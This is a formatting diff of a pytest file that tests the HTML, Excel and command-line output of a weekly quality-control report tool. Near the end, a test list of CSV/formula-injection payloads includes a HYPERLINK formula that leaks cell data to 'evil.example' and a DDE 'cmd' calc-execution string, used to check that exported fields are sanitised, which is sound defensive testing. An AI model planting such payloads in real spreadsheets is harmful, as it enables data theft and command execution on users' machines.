@@ -4,6 +4,7 @@ screenshotted), the Excel workbook (read back with openpyxl), and `qc report wee
 Screenshots go to a temporary directory; set QC_REPORT_SCREENSHOTS=docs/screenshots to
 refresh docs/screenshots/report.png.
 """
+
 from __future__ import annotations
 
 import json
@@ -45,14 +46,24 @@ def empty_report(sessions: Any) -> dict[str, Any]:
 
 # HTML ------------------------------------------------------------------------------------
 
+
 def test_html_is_one_self_contained_page_in_chinese(report):
     page = render_html(report)
     assert page.startswith("<!DOCTYPE html>") and '<html lang="zh-CN">' in page
     assert "<script" not in page and "<link" not in page and "@import" not in page
-    assert not re.search(r'\bsrc=|url\(', page)  # no image, font or stylesheet to fetch
+    assert not re.search(r"\bsrc=|url\(", page)  # no image, font or stylesheet to fetch
     assert page.count("<svg") == 3  # trend, categories, score distribution
-    for heading in ("概览", "趋势", "问题分类", "红线事件", "客服表现", "客户侧", "响应时效",
-                    "质检系统表现", "本周教学案例"):
+    for heading in (
+        "概览",
+        "趋势",
+        "问题分类",
+        "红线事件",
+        "客服表现",
+        "客户侧",
+        "响应时效",
+        "质检系统表现",
+        "本周教学案例",
+    ):
         assert f">{heading}" in page
     assert "2026 年第 47 周（11月16日—11月22日）" in page
     # Every red line links to its chat; agents marked for coaching are shown as such.
@@ -76,14 +87,18 @@ def test_html_of_an_empty_week(empty_report):
 @pytest.fixture(scope="module")
 def browser():
     if not CHROMIUM.exists():
-        pytest.skip("Debian chromium is not installed: apt-get install chromium (the test "
-                    "drives /usr/bin/chromium; `playwright install` is never run)")
-    sync_api = pytest.importorskip("playwright.sync_api",
-                                   reason="playwright is not installed: pip install playwright")
+        pytest.skip(
+            "Debian chromium is not installed: apt-get install chromium (the test "
+            "drives /usr/bin/chromium; `playwright install` is never run)"
+        )
+    sync_api = pytest.importorskip(
+        "playwright.sync_api", reason="playwright is not installed: pip install playwright"
+    )
     with sync_api.sync_playwright() as playwright:
         chromium = playwright.chromium.launch(
             executable_path=str(CHROMIUM),
-            args=["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"])
+            args=["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"],
+        )
         try:
             yield chromium
         finally:
@@ -117,8 +132,10 @@ def test_html_in_chromium(report, browser, tmp_path):
     # Nothing is wider than the page, and the Chinese text has a font (not tofu boxes).
     assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
     if not _has_cjk_font():
-        pytest.skip("no Chinese font installed (fc-list :lang=zh is empty): the report would "
-                    "show boxes; .ci/run installs fonts-noto-cjk")
+        pytest.skip(
+            "no Chinese font installed (fc-list :lang=zh is empty): the report would "
+            "show boxes; .ci/run installs fonts-noto-cjk"
+        )
     width = page.evaluate("""() => { const s = document.createElement('span');
         s.textContent = '质检周报'; document.body.appendChild(s);
         const w = s.getBoundingClientRect().width; s.remove(); return w; }""")
@@ -141,6 +158,7 @@ def test_html_in_chromium(report, browser, tmp_path):
 
 # Excel -----------------------------------------------------------------------------------
 
+
 def _reopen(report: dict[str, Any], tmp_path: Path) -> Any:
     from openpyxl import load_workbook
 
@@ -151,8 +169,11 @@ def _reopen(report: dict[str, Any], tmp_path: Path) -> Any:
 
 def _table(sheet: Any) -> list[dict[str, Any]]:
     header = [c.value for c in sheet[1]]
-    return [dict(zip(header, row, strict=True))
-            for row in sheet.iter_rows(min_row=2, values_only=True) if any(v is not None for v in row)]
+    return [
+        dict(zip(header, row, strict=True))
+        for row in sheet.iter_rows(min_row=2, values_only=True)
+        if any(v is not None for v in row)
+    ]
 
 
 def test_workbook_one_sheet_per_section(report, tmp_path):
@@ -177,25 +198,29 @@ def test_workbook_numbers_are_numbers(report, tmp_path):
     assert book["客服表现"]["G2"].number_format == "0.0%"
     categories = _table(book["问题分类"])
     assert [(c["代码"], c["问题数"], c["上周"], c["变化"]) for c in categories] == [
-        (c["code"], c["flags"], c["previous_flags"], c["change"]) for c in report["categories"]]
+        (c["code"], c["flags"], c["previous_flags"], c["change"]) for c in report["categories"]
+    ]
     overview = {row[0]: row[1:] for row in book["概览"].iter_rows(min_row=5, values_only=True)}
     assert overview["质检会话"][0] == report["coverage"]["chats"]
     assert overview["合格率"][0] == pytest.approx(report["coverage"]["pass_rate"])
-    assert overview["红线事件"] == (report["coverage"]["red_lines"],
-                                report["coverage"]["previous"]["red_lines"],
-                                report["coverage"]["red_lines"]
-                                - report["coverage"]["previous"]["red_lines"])
+    assert overview["红线事件"] == (
+        report["coverage"]["red_lines"],
+        report["coverage"]["previous"]["red_lines"],
+        report["coverage"]["red_lines"] - report["coverage"]["previous"]["red_lines"],
+    )
     red = _table(book["红线事件"])
-    assert Counter(r["会话"] for r in red) == Counter(i["transcript_id"]
-                                                    for i in report["red_lines"]["items"])
+    assert Counter(r["会话"] for r in red) == Counter(
+        i["transcript_id"] for i in report["red_lines"]["items"]
+    )
     link = book["红线事件"]["J2"].hyperlink
     assert link is not None and link.target.startswith("http://qc.example/v1/transcripts/")
     rules = _table(book["规则准确率"])
     assert [r["准确率"] for r in rules] == [r["precision"] for r in report["qc_system"]["rules"]]
     response = _table(book["响应时效"])
     assert response[0]["客服"] == "全部"
-    assert response[0]["首响中位数(秒)"] == report["response"]["overall"]["first_response"][
-        "median"]
+    assert (
+        response[0]["首响中位数(秒)"] == report["response"]["overall"]["first_response"]["median"]
+    )
 
 
 def test_workbook_colours_what_is_abnormal(report, tmp_path):
@@ -234,6 +259,7 @@ def test_workbook_of_an_empty_week(empty_report, tmp_path):
 
 # The command -------------------------------------------------------------------------------
 
+
 def test_qc_report_weekly_writes_all_three(seeded, database_url, tmp_path, capsys, monkeypatch):
     from qc_engine.cli import main
 
@@ -247,8 +273,24 @@ def test_qc_report_weekly_writes_all_three(seeded, database_url, tmp_path, capsy
     printed = capsys.readouterr().out
     assert "135 chats" in printed and "weekly-2026-W47.xlsx" in printed
     # One shop, one form, stored.
-    assert main(["report", "weekly", "--week", "2026-W47", "--shop", "Q女家旗舰店", "--out",
-                 str(out), "--format", "json", "--store"]) == 0
+    assert (
+        main(
+            [
+                "report",
+                "weekly",
+                "--week",
+                "2026-W47",
+                "--shop",
+                "Q女家旗舰店",
+                "--out",
+                str(out),
+                "--format",
+                "json",
+                "--store",
+            ]
+        )
+        == 0
+    )
     assert (out / "weekly-2026-W47-Q女家旗舰店.json").exists()
     from qc_engine.reports.store import stored_report
 
@@ -256,9 +298,9 @@ def test_qc_report_weekly_writes_all_three(seeded, database_url, tmp_path, capsy
         assert stored_report(session, week="2026-W47", shop="Q女家旗舰店") is not None
 
 
-def test_qc_report_weekly_on_an_empty_week_says_where_the_data_is(seeded, database_url,
-                                                                   tmp_path, capsys,
-                                                                   monkeypatch):
+def test_qc_report_weekly_on_an_empty_week_says_where_the_data_is(
+    seeded, database_url, tmp_path, capsys, monkeypatch
+):
     from qc_engine.cli import main
 
     monkeypatch.setenv("QC_DATABASE_URL", database_url)
@@ -271,15 +313,43 @@ def test_qc_report_weekly_on_an_empty_week_says_where_the_data_is(seeded, databa
 def test_qc_report_weekly_rejects_a_bad_week(tmp_path, capsys):
     from qc_engine.cli import main
 
-    assert main(["report", "weekly", "--week", "2026-47", "--out", str(tmp_path),
-                 "--database", f"sqlite:///{tmp_path / 'x.sqlite3'}"]) == 2
+    assert (
+        main(
+            [
+                "report",
+                "weekly",
+                "--week",
+                "2026-47",
+                "--out",
+                str(tmp_path),
+                "--database",
+                f"sqlite:///{tmp_path / 'x.sqlite3'}",
+            ]
+        )
+        == 2
+    )
     assert "2026-W47" in capsys.readouterr().err
 
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(1,2)",
-           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
-OUTSIDE_FIELDS = {"agent", "shop", "message", "evidence", "note", "reviewer", "transcript_id",
-                  "channel"}
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
+OUTSIDE_FIELDS = {
+    "agent",
+    "shop",
+    "message",
+    "evidence",
+    "note",
+    "reviewer",
+    "transcript_id",
+    "channel",
+}
 
 
 def _poison(value: Any, counter: list[int]) -> Any:
